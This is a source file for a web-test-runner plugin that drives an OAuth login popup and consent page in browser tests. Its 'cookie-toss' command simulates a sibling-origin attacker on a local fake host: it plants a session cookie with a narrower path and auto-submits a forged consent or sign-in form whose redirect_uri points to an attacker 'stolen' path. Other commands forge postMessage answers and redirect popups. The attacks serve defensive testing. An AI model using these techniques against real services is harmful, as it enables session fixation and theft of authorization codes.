// A web-test-runner plugin that drives the real login page (it lives on the service's
// origin, cross-origin to the test page, so the test cannot reach into it). Browser tests
// call it with executeServerCommand from @web/test-runner-commands. It works in every engine
// the suite runs in, through test/support/windows.mjs.
//
//   'login-popup'    { action, login?, password?, timeout? } -> { url }
//       Waits for the popup the test page opened on /oauth/auth, then: `inspect` (nothing),
//       `authorize` (sign in if asked, then Authorize), `cancel` (the page's Cancel button),
//       `close` (closes the window, as a user would), `post` (posts `message` to the opener
//       from inside the popup, after going to `goto` if given, for answers the page itself
//       would never send; then closes it if `close`); `navigate` (the popup's own page sends
//       it to `to`, as a link or a forged redirect would: the opener stays its opener).
//   'login-redirect' { url, action } -> { location }
//       Opens a prompt-page URL in a fresh tab and signs in there; then sends the page's own
//       Authorize (or Cancel) form with the tab's cookies and gives back where the service
//       redirects to, without loading that address (it may be this test page, or nowhere).
//   'post-from-frame' { urlContains, message } -> true
//       Posts `message` to the test page from inside one of its iframes (another window).
//   'consent-layout' { authUrl, width, height } -> { scrollWidth, scrollHeight, contentBottom, destination }
//       In a fresh window (no cookies) with that viewport: signs in as demo on `authUrl`,
//       measures the consent screen, and reads where it says the answer goes.
//   'cookie-toss'    { authUrl, attackerUrl, form: 'authorize' | 'login' } -> { status, heading, stolen, signedInAs }
//       In a fresh window: the victim signs in on `authUrl` (as demo); then a page on
//       `attackerUrl` (the fake host: another port of 127.0.0.1, so the same site) sets the
//       session cookie it got for itself with a narrower path, and auto-submits a forged consent
//       (or sign-in, as a generated account) form to the service. Gives back the answer's status
//       (the page's own Navigation Timing, where the engine gives it), its heading, any address the
//       attacker's redirect_uri received (from the fake host's log: nothing is intercepted), and
//       who the consent screen names afterwards.
//
// popupCommand is exported for test/support/cdn-site.mjs, whose site opens the popup.

import { withWindows } from './windows.mjs';

const DEMO = { login: 'demo', password: 'listen-offline' };
const AUTHORIZE = 'button[value="authorize"]';

/** Fills the sign-in form when the page shows it; resolves once the consent screen is up. */
async function signIn(tab, { login = DEMO.login, password = DEMO.password } = {}) {
  await tab.waitFor(`#password, ${AUTHORIZE}`);
  if (!(await tab.has('#password'))) return false;
  await tab.type('#login', login);
  await tab.type('#password', password);
  await tab.click('button.primary[type="submit"]');
  await tab.waitFor(AUTHORIZE);
  return true;
}

/** Clicks a button that makes the page close or leave; its closing is not an error. */
async function clickAway(tab, selector) {
  await tab.click(selector).catch((error) => {
    if (!/closed|detached|Target|no such window|discarded|context/i.test(String(error?.message))) throw error;
  });
}

export async function popupCommand(windows, payload = {}) {
  const { action = 'inspect', timeout = 30_000, message } = payload;
  const popup = await windows.popup('/oauth/auth', timeout);
  const url = await popup.url();
  if (action === 'inspect') return { url };
  if (action === 'close') {
    await popup.close();
    return { url };
  }
  await popup.waitFor('main', timeout);
  if (action === 'post') {
    // `goto`: first take the popup to another address (another origin), as a hijacked popup would be.
    if (payload.goto) await popup.goto(payload.goto);
    await popup.evaluate((m) => window.opener.postMessage(m, '*'), message);
    if (payload.close) await popup.close();
    return { url };
  }
  if (action === 'navigate') {
    await popup.evaluate((to) => void (location.href = to), payload.to);
    return { url };
  }
  if (action === 'cancel') {
    await clickAway(popup, 'button.secondary');
    return { url };
  }
  if (action === 'authorize') {
    const signedIn = await signIn(popup, payload);
    await clickAway(popup, AUTHORIZE);
    return { url, signedIn };
  }
  throw new Error(`login-popup: unknown action ${action}`);
}

/** The form `selector`'s button submits, as the browser would send it. */
function formOf(selector) {
  const button = document.querySelector(selector);
  const form = button.form;
  const data = new URLSearchParams();
  for (const [name, value] of new FormData(form)) data.append(name, String(value));
  if (button.name) data.set(button.name, button.value);
  return { action: new URL(form.getAttribute('action'), location.href).href, body: data.toString() };
}

async function redirectCommand(windows, { url, action = 'authorize', ...credentials }) {
  const tab = await windows.newTab(url);
  try {
    let selector = 'button.secondary';
    if (action === 'cancel') await tab.waitFor(selector);
    else {
      await signIn(tab, credentials);
      selector = AUTHORIZE;
    }
    const form = await tab.evaluate(formOf, selector);
    const answer = await fetch(form.action, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: await tab.cookieHeader(), origin: new URL(url).origin },
      body: form.body,
    });
    const location = answer.headers.get('location');
    if (answer.status !== 302 || !location) throw new Error(`login-redirect: ${form.action} answered ${answer.status}, not a redirect`);
    return { location };
  } finally {
    await tab.close().catch(() => {});
  }
}

async function consentLayoutCommand(windows, { authUrl, width, height }) {
  const tab = await windows.freshTab(authUrl, { width, height });
  try {
    await signIn(tab);
    return await tab.evaluate(() => ({
      scrollWidth: document.documentElement.scrollWidth,
      scrollHeight: document.documentElement.scrollHeight,
      contentBottom: Math.ceil(document.querySelector('main').getBoundingClientRect().bottom),
      destination: /Your answer goes to (.+)\./.exec(document.body.innerText)?.[1],
    }));
  } finally {
    await tab.close().catch(() => {});
  }
}

let tosses = 0;

async function cookieTossCommand(windows, { authUrl, attackerUrl, form }) {
  const service = new URL(authUrl).origin;
  const tab = await windows.freshTab(authUrl);
  try {
    await signIn(tab);
    // The attacker's own pair, as any visitor gets one.
    const res = await fetch(authUrl);
    const cookie = /^(oauth_session=[^;]+)/.exec(res.headers.get('set-cookie') ?? '')?.[1];
    const html = await res.text();
    const fields = Object.fromEntries([...html.matchAll(/<input type="hidden" name="([^"]*)" value="([^"]*)">/g)].map((m) => [m[1], m[2].replace(/&#(\d+);/g, (_, c) => String.fromCharCode(Number(c)))]));
    // The attacker's redirect_uri: a fake-host path of this toss's own, whose log says what reached it.
    const tag = `html~cookie-toss-${process.pid}-${++tosses}`;
    const stolen = `${attackerUrl}/h/${tag}/stolen`;
    // The attacker's own account: a generated one, with the documented shared password.
    const users = await (await fetch(`${service}/v1/users/search?query=a&limit=5&app_name=cookie-toss`)).json();
    const attacker = users.data.find((u) => u.handle !== 'demo').handle;
    Object.assign(fields, { scope: 'write', redirect_uri: stolen }, form === 'login' ? { login: attacker, password: 'catalog-listener' } : { decision: 'authorize' });
    delete fields.origin;
    const action = `${service}/oauth/${form}`;
    await tab.goto(`${attackerUrl}/h/${tag}/attacker-page`);
    await tab.evaluate(
      ([c, to, f]) => {
        document.cookie = `${c}; path=${new URL(to).pathname}`; // tossed from a sibling origin
        const el = document.createElement('form');
        el.method = 'post';
        el.action = to;
        for (const [name, value] of Object.entries(f)) el.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
        document.body.append(el);
        setTimeout(() => el.submit()); // after this script's answer: classic waits for none across a navigation
      },
      [cookie, action, fields],
    );
    // Wherever the form's answer (or its redirect) lands, the attacker page is gone. The landed page
    // is read in one evaluation once it shows its heading and, where the engine tells a page its
    // status (not WebKit), that status: under load, Firefox answered single reads with pages of the
    // right address that were not yet all there (no body at all; a body with no navigation status).
    // A page that never gets there is described after 30 s instead.
    const landed = await tab
      .until(() => {
        const heading = document.querySelector('h1')?.textContent;
        const status = performance.getEntriesByType('navigation')[0]?.responseStatus;
        const statusKnown = status > 0 || !('responseStatus' in PerformanceResourceTiming.prototype);
        return !location.pathname.endsWith('/attacker-page') && document.readyState === 'complete' && heading !== undefined && statusKnown && { heading, status };
      }, 30_000)
      .catch(() => undefined);
    const seen = landed
      ? undefined
      : await tab.evaluate(() => `${location.href} (${document.readyState}): ${JSON.stringify(document.body?.innerText.slice(0, 200))}`).catch((error) => `unreadable: ${error.message}`);
    const { data: log } = await (await fetch(`${attackerUrl}/count/${tag}`)).json();
    const stolenUrl = log.paths.find((p) => p.startsWith('/stolen'));
    // The tossed cookie goes again (the attacker's origin may, it is no HttpOnly cookie): the
    // windows after this one see only what they set themselves.
    await tab.goto(`${attackerUrl}/h/${tag}/attacker-page`);
    await tab.evaluate((to) => (document.cookie = `oauth_session=; path=${new URL(to).pathname}; max-age=0`), action);
    await tab.goto(authUrl);
    // Read once the page has its main part, for the same reason as above.
    const signedInAs = await tab.until(() => {
      const main = document.querySelector('main');
      return main && (/Signed in as (.+?) \(/.exec(main.textContent)?.[1] ?? 'nobody');
    });
    return {
      status: landed?.status || undefined,
      heading: landed?.heading,
      seen,
      stolen: stolenUrl && `${attackerUrl}/h/${tag}${stolenUrl}`,
      signedInAs,
    };
  } finally {
    await tab.close().catch(() => {});
  }
}

/** The plugin: one import and one entry in web-test-runner.config.mjs's `plugins`. */
export function popupDriverPlugin() {
  return {
    name: 'login-popup-driver',
    async executeCommand({ command, payload, session }) {
      if (!['login-popup', 'login-redirect', 'post-from-frame', 'cookie-toss', 'consent-layout'].includes(command)) return undefined;
      return withWindows(session, (windows) => {
        if (command === 'login-popup') return popupCommand(windows, payload);
        if (command === 'login-redirect') return redirectCommand(windows, payload);
        if (command === 'cookie-toss') return cookieTossCommand(windows, payload);
        if (command === 'consent-layout') return consentLayoutCommand(windows, payload);
        return windows.inFrame(payload.urlContains, (m) => window.parent.postMessage(m, '*'), payload.message).then(() => true);
      });
    },
  };
}
